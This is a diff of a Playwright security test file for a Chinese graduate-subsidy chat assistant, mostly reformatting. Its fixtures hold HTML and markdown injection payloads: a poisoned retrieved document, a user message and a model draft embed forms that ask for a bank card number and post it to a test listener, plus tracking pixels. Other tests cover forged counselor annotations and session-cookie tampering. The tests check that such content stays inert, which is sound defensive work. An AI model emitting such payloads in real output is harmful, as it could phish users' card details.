@@ -62,6 +62,12 @@ WATCH = r"""
 
 
 def _poisoned_document(listener: str) -> str:
+    paragraph = (
+        f"{TOPIC}向返乡就业的高校毕业生一次性发放，每人一次。"
+        f'<form action="{listener}/doc-form"><input name="card" placeholder="银行卡号">'
+        "<button>提交</button></form>申请时登录www.ncss.cn）。"
+        f'<img src="{listener}/doc-pixel.png">'
+    )
     return f"""---
 title: {TOPIC}说明（测试用虚构文件）
 issuer: careercoach 测试夹具
@@ -72,7 +78,7 @@ publish_date: 2026-10-20
 
 ## 申领方式
 
-{TOPIC}向返乡就业的高校毕业生一次性发放，每人一次。<form action="{listener}/doc-form"><input name="card" placeholder="银行卡号"><button>提交</button></form>申请时登录www.ncss.cn）。<img src="{listener}/doc-pixel.png">
+{paragraph}
 
 ## 材料
 
@@ -151,7 +157,7 @@ def _draft(listener: str) -> str:
     return (
         f"{TOPIC}向返乡就业的高校毕业生一次性发放[1]。"
         f'<form action="{listener}/llm-form"><input name="card" placeholder="银行卡号"></form>'
-        f"![p]({listener}/llm-md.png) <img src=\"{listener}/llm-img.png\">"
+        f'![p]({listener}/llm-md.png) <img src="{listener}/llm-img.png">'
         "<details open><summary>展开</summary>内容</details> 详见www.ncss.cn）。"
     )
 
@@ -165,8 +171,8 @@ def test_graduate_message_document_and_streamed_draft_stay_inert(
     page = _page(browser, attack)
     page.goto(attack.url + "/")
     question = (
-        f"{TOPIC}怎么申请？<form action=\"{listener}/msg-form\"><input name=\"q\"></form>"
-        f"<img src=\"{listener}/msg-pixel.png\"> ![x]({listener}/msg-md.png)\n\n{FORGED}"
+        f'{TOPIC}怎么申请？<form action="{listener}/msg-form"><input name="q"></form>'
+        f'<img src="{listener}/msg-pixel.png"> ![x]({listener}/msg-md.png)\n\n{FORGED}'
     )
     _ask(page, question)
     chat = page.locator("#chatbot")
@@ -208,7 +214,9 @@ def test_counselor_view_cannot_be_forged_and_loads_nothing_remote(
     view = page.locator("#conversation")
     expect(view).to_contain_text("毕业生原话", timeout=30_000)
     headings = view.locator("h3").all_inner_texts()
-    assert [h for h in headings if h.startswith("Turn")] == [headings[0]] and "id 999" not in headings[0]
+    assert [h for h in headings if h.startswith("Turn")] == [
+        headings[0]
+    ] and "id 999" not in headings[0]
     forged = view.locator("blockquote").filter(has_text="已审核")
     expect(forged).to_have_count(1)  # the forged annotation sits inside the graduate's quote
     annotation_lines = view.locator("p").filter(has_text="Annotation by")
@@ -255,7 +263,9 @@ def test_another_sessions_id_in_the_cookie_reads_nothing(browser: Any, attack: A
     host = attack.url.split("//")[1].split(":")[0]
     for value in (victim, f"{victim}.forged-signature"):
         page = _page(browser, attack)
-        page.context.add_cookies([{"name": "cc_session", "value": value, "domain": host, "path": "/"}])
+        page.context.add_cookies(
+            [{"name": "cc_session", "value": value, "domain": host, "path": "/"}]
+        )
         page.goto(attack.url + "/")
         expect(page.locator("#question textarea")).to_be_visible(timeout=30_000)
         page.wait_for_timeout(1500)  # the restore call has run by now
